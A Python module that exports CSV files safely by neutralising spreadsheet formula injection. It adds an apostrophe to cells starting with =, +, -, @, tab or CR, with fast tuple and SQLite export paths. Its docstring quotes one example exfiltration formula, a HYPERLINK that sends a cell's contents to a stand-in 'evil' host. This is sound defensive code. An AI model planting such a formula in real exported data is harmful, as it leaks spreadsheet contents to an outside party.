"""CSV that is safe to open in a spreadsheet (OWASP "CSV injection").

Evidence sentences and names come from news articles, i.e. from strangers. A cell such as
``=HYPERLINK("http://evil/?"&A1)`` would run as a formula in Excel, LibreOffice or Google Sheets, so
every text cell starting with a formula trigger gets a leading apostrophe: spreadsheets then show it as
text. Real numbers (``int``/``float``, including negative ones) are left alone: they are data, and an
apostrophe would turn them into text.

The file is RFC 4180 (``\\r\\n`` line ends, minimal quoting) with a UTF-8 byte-order mark by default,
because Excel only reads a CSV as UTF-8, and so shows Chinese correctly, when the mark is there.
"""
from __future__ import annotations

import csv
import datetime as _dt
import decimal
import io
from typing import Any, Iterable, TextIO

__all__ = ["neutralise", "write_csv", "write_csv_tuples", "FORMULA_TRIGGERS"]

# = + - @ start formulas; TAB and CR are on OWASP's list because some spreadsheets skip them and then
# read the formula behind them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """The cell as text a spreadsheet will not evaluate: None is empty, numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, bool):  # before int: bool is an int subclass, and "True" is clearer than "1"
        return str(value).lower()
    if isinstance(value, (int, float, decimal.Decimal)):
        return _plain_number(value)
    if isinstance(value, (_dt.date, _dt.datetime)):
        return value.isoformat()
    if isinstance(value, (list, tuple, set, frozenset)):  # e.g. the names of a flow: one readable cell
        return neutralise("; ".join("" if item is None else str(item) for item in value))
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def _plain_number(value: int | float | decimal.Decimal) -> str:
    """Digits as a person would type them: no exponent (6.6e9 would read as a formula-like oddity)."""
    if isinstance(value, float):
        if value != value or value in (float("inf"), float("-inf")):
            return str(value)  # nan / inf: nothing sensible to write, keep Python's spelling
        if value.is_integer():
            return str(int(value))
        text = repr(value)
        if "e" not in text:  # the usual case (0.9, -0.25): repr is already plain digits
            return text
        return format(decimal.Decimal(text), "f")
    if isinstance(value, decimal.Decimal):
        return format(value, "f")
    return str(value)


def write_csv(
    rows: Iterable[dict],
    columns: list[str],
    out: TextIO,
    *,
    raw: bool = False,
    bom: bool = True,
) -> int:
    """Write a header and one line per row (missing keys are empty cells); return the number of rows written.

    ``out`` should be opened with ``encoding="utf-8", newline=""`` so the ``\\r\\n`` line ends reach the
    file unchanged. ``raw=True`` writes values as they are (for programs, not spreadsheets).
    """
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([_cell(column, raw) for column in columns])
    count = 0
    for row in rows:
        writer.writerow([_cell(row.get(column), raw) for column in columns])
        count += 1
    return count


def _cell(value: Any, raw: bool) -> str:
    if raw:
        if isinstance(value, (list, tuple, set, frozenset)):
            return "; ".join("" if item is None else str(item) for item in value)
        return "" if value is None else str(value)
    return neutralise(value)


# -- the bulk path: a million rows of tuples straight from a database cursor ---------------------------------
_TRIGGER_CHARS = frozenset(FORMULA_TRIGGERS)


def _tuple_converter(width: int):
    """A function turning a row tuple into the same cells ``neutralise`` gives, with no call per text cell.

    Exports are dominated by text cells, so each one is an inline expression (str: add the apostrophe when it
    starts with a trigger; int: as is, csv writes it; None: empty) and only the rest goes through neutralise.
    """
    cells = ", ".join(
        f"((\"'\" + v if v[:1] in T else v) if (t := type(v := r[{i}])) is str else "
        f"(v if t is int else ('' if v is None else N(v))))" for i in range(width))
    return eval(f"lambda r: ({cells},)", {"T": _TRIGGER_CHARS, "N": neutralise})  # noqa: S307 - our own text


def write_csv_tuples(batches: Iterable[list[tuple]], columns: list[str], out: TextIO, *, bom: bool = True) -> int:
    """``write_csv`` for batches of row tuples in ``columns`` order (a cursor's fetchmany): same text, far faster."""
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([neutralise(column) for column in columns])
    convert = _tuple_converter(len(columns))
    count = 0
    for batch in batches:
        writer.writerows(map(convert, batch))
        count += len(batch)
    return count


# -- the SQLite path: SQLite joins the cells, Python finishes whole batches ------------------------------------------
# Per row, the tuple path above makes a tuple of 17 objects and csv.writer looks at each one; at a million rows that
# is most of an export. Here SQLite spells the numbers and joins each row's cells with the unit separator (US), so a
# row reaches Python as one string and a batch of rows becomes one string too. A batch with no comma, quote, CR or
# LF and no cell starting with a formula trigger (substring tests over the whole batch tell) is then finished by two
# replaces; otherwise its rows are split and csv.writer quotes them (triggers first get the apostrophe). SQLite could
# quote too, but its expressions cost more per cell than this. A cell that itself holds a separator is found by
# counting them, and its batch goes the tuple way.
_SQL_TRIGGERS = "(" + ", ".join(str(ord(c)) for c in FORMULA_TRIGGERS) + ")"  # code points: unicode() is cheaper
SQL_NUMBER_FUNCTION = "talentdb_plain_number"
CELL, ROW = "\x1f", "\x1e"  # ASCII unit and record separators
# Substring tests, not a regex: `in` runs at memory speed over a batch, Python's regex engine ~20x slower.
_CELL_STARTS = tuple((t, (CELL + t, ROW + t)) for t in FORMULA_TRIGGERS)


def _needs_quotes(text: str) -> bool:
    return "," in text or '"' in text or "\r" in text or "\n" in text


def _has_trigger_cell(text: str) -> bool:
    # The one-character test first: it is a memchr, and most triggers appear nowhere in a batch ('-' in every date).
    return text[:1] in _TRIGGER_CHARS or any(t in text and (a in text or b in text) for t, (a, b) in _CELL_STARTS)


def register_sqlite_functions(dbapi_connection) -> None:
    """What sqlite_joined_cells' expressions call, on a sqlite3 connection."""
    dbapi_connection.create_function(SQL_NUMBER_FUNCTION, 1, _plain_number, deterministic=True)


def _sqlite_number(x: str) -> str:
    """A number as neutralise spells it. Printed with 15 significant digits (printf, not CAST: newer SQLite may
    cast with more), a real whose text reads back as the same real is spelled as Python spells it (any decimal of
    up to 15 digits survives the round trip); otherwise Python spells it, through the registered function. Text
    in a number column is made safe here."""
    return (f"CASE WHEN typeof({x}) <> 'real' THEN (CASE WHEN typeof({x}) = 'text' AND unicode({x}) IN {_SQL_TRIGGERS} "
            f"THEN '''' || {x} ELSE coalesce({x}, '') END) "
            f"WHEN abs({x}) < 9e15 AND {x} = CAST({x} AS INTEGER) THEN CAST({x} AS INTEGER) "
            f"WHEN abs({x}) >= 1e-4 AND abs({x}) < 1e15 AND CAST(printf('%!.15g', {x}) AS REAL) = {x} "
            f"THEN printf('%!.15g', {x}) "
            f"ELSE {SQL_NUMBER_FUNCTION}({x}) END")


def sqlite_joined_cells(cells: list[tuple[str, bool]]) -> str:
    """An SQLite expression for a row's cells joined by CELL, from (expression, is_number) pairs: numbers spelled as
    neutralise spells them, everything else as stored (NULL as empty).

    One printf call, not a chain of coalesce and ||: its %s spells a value as || would (sqlite3_value_text) and a
    NULL as nothing, in a third of the time at a million rows."""
    template = CELL.join(["%s"] * len(cells))
    args = ", ".join(_sqlite_number(x) if number else x for x, number in cells)
    return f"printf('{template}', {args})"


def finish_batch(lines: list[str], numbers: frozenset, width: int) -> str | None:
    """The CSV text (CRLF after every row) of rows whose cells are joined by CELL, as neutralise and csv.writer
    write them; None when some cell holds a separator itself (the caller then uses the tuple path)."""
    text = ROW.join(lines)
    if text.count(CELL) != (width - 1) * len(lines) or text.count(ROW) != len(lines) - 1:
        return None
    triggers = _has_trigger_cell(text)
    if not triggers and not _needs_quotes(text):
        return text.replace(CELL, ",").replace(ROW, "\r\n") + "\r\n"
    # Some row needs quotes (most batches of real English evidence do): csv.writer quotes the split cells in C.
    rows = [line.split(CELL) for line in lines]
    if triggers:
        for line, cells in zip(lines, rows):
            if _has_trigger_cell(line):
                for i, cell in enumerate(cells):
                    if i not in numbers and cell[:1] in _TRIGGER_CHARS:
                        cells[i] = "'" + cell
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n").writerows(rows)
    return out.getvalue()
